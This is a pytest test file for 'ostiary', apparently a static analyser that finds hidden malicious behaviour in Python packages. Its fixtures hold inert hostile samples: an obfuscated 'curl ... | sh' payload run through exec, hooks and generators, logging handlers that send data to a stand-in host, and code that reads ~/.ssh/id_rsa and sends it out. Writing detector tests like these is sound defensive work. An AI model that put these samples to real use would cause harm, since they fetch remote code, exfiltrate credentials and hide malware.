"""What somebody else calls of what was handed to them is not out of sight: callbacks, handlers, hooks."""

import base64

import pytest
from attack_files import wheel

from ostiary.checks.behaviour.unreadable import unreadable
from ostiary.core.finding import Hit
from ostiary.core.scale import Severity
from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

PAYLOAD = b"import os\nos.system('curl http://a.example.invalid/x | sh')\n"
HIDDEN = base64.b64encode(bytes(one ^ 7 for one in PAYLOAD)).decode()
SHOWN = "bytes(one ^ 7 for one in base64.b64decode(HIDDEN)).decode()"

HOOKS = {
    "lambda in a place outside": f"sys.excepthook = lambda *given: exec({SHOWN})",
    "exec handed on": f"asyncio.new_event_loop().call_soon(exec, {SHOWN})",
    "os.system handed on": "outside.later(os.system, 'curl http://a.example.invalid/x | sh')",
    "the second of a generator": f"def g():\n    yield 'pass'\n    yield {SHOWN}\n"
    "i = g()\nnext(i)\nexec(next(i))",
}

HANDLERS = {
    "a parser of pages": "class P(html.parser.HTMLParser):\n    def handle_data(self, data):\n        {}",
    "a shell of commands": "class P(cmd.Cmd):\n    def do_x(self, data):\n        {}",
    "a visitor": "class P(ast.NodeVisitor):\n    def visit_Constant(self, data):\n        {}",
    "an option": "parser.add_argument('--x', type=lambda data: {})",
}


def program(text: str) -> Program:
    names = "ast, asyncio, base64, cmd, html.parser, os, outside, sys"
    files = {"pkg/__init__.py": f"import {names}\nHIDDEN = {HIDDEN!r}\n{text}\n"}
    return next(one for one in wheel(files).facts if isinstance(one, Program))


@pytest.mark.parametrize("hook", HOOKS)
def test_what_is_handed_on_runs(hook: str) -> None:
    flows = program(HOOKS[hook]).flows
    assert any("a.example.invalid" in one.text for one in flows if one.act is Act.RUN)


@pytest.mark.parametrize("handler", HANDLERS)
def test_who_executes_what_it_decodes_is_looked_at(handler: str) -> None:
    told = unreadable.run(program(HANDLERS[handler].format("exec(base64.b64decode(data))")))
    assert [one.severity for one in told if isinstance(one, Hit)] == [Severity.HIGH]
    plain = unreadable.run(program(HANDLERS[handler].format("print(base64.b64decode(data))")))
    assert not list(plain)


LOGS = {
    "of its own": "class H(logging.Handler):\n    def emit(self, record):\n"
    "        urllib.request.urlopen('http://a.example.invalid/c', data=record.msg.encode())\n"
    "logging.getLogger('a').addHandler(H())\n",
    "of the library": "logging.getLogger('a').addHandler("
    "logging.handlers.HTTPHandler('a.example.invalid', '/c', method='POST'))\n",
    "of a socket": "logging.basicConfig(handlers=["
    "logging.handlers.SysLogHandler(('a.example.invalid', 514))])\n",
}


@pytest.mark.parametrize("log", LOGS)
def test_what_is_logged_goes_where_the_handlers_send_it(log: str) -> None:
    names = "import logging, logging.handlers, urllib.request\n"
    told = "logging.getLogger('a').error(open(os.path.expanduser('~/.ssh/id_rsa')).read())"
    sent = [one for one in program(names + LOGS[log] + told).flows if one.act is Act.SEND]
    assert any("a.example.invalid" in one.target and one.has(Taint.SECRET) for one in sent)
    plain = program(names + LOGS[log] + "logging.getLogger('a').error('it starts')").flows
    assert not any(one.has(Taint.SECRET) for one in plain)


def test_a_function_of_the_system_by_a_name_that_nobody_can_work_out() -> None:
    text = (
        "import random\ngetattr(os, random.choice(dir(os)))('curl http://a.example.invalid/x | sh')"
    )
    told = [one.severity for one in unreadable.run(program(text)) if isinstance(one, Hit)]
    # the names of the module are taken all at once as well
    assert set(told) == {Severity.MEDIUM, Severity.HIGH}
    assert len(told) == 2


def test_an_object_that_is_a_path_is_opened_as_one() -> None:
    """What the method gives is what `open` opens: the act is still that of `open`."""
    kind = "class P:\n    def __fspath__(self):\n        return {!r}\n"
    send = "import urllib.request\nurllib.request.urlopen('http://a.example.invalid', data=open(P()).read())"
    sent = program(kind.format("/home/a/.ssh/id_rsa") + send).flows
    assert any(one.act is Act.SEND and one.has(Taint.SECRET) for one in sent)
    written = program(kind.format("/home/a/.bashrc") + "open(P(), 'a').write('curl x')").flows
    assert any(one.act is Act.WRITE and ".bashrc" in one.target for one in written)


def test_nothing_is_kept_between_two_objects_that_a_library_makes() -> None:
    text = "class C:\n    def __getitem__(self, part):\n        return part\n"
    program(text + "type(C()[1:2]).start = 'kept'\n")
    plain = program(text + "exec(C()[1:2].step or 'pass')\n")
    assert not any("kept" in one.text for one in plain.flows)
